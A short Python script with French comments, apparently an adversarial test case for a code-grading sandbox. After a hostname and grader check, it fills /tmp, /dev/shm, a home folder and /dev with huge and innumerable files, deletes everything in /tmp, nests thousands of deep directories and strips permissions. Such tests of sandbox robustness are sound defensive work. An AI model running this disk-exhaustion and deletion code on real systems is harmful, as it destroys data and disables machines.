# ---
# why: remplit le disque d'un énorme fichier, de fichiers vides innombrables et de dossiers sans fond
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
import contextlib

for dossier in ("/tmp", "/dev/shm", "/home/stagiaire", "/dev"):
    with contextlib.suppress(OSError):
        for numero in range(4):
            with open(f"{dossier}/gros{numero}", "wb") as fichier:
                while fichier.write(b"x" * 1_000_000):
                    pass
    with contextlib.suppress(OSError):
        for numero in range(20_000):
            os.close(os.open(f"{dossier}/{numero}", os.O_CREAT))

# %% after="sigmoide"
if globals().get("LANCEE"):
    os.chdir("/tmp")
    with contextlib.suppress(OSError):
        for nom in os.listdir("."):
            os.unlink(nom)
    with contextlib.suppress(OSError):
        for numero in range(3_000):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    os.chmod("..", 0)
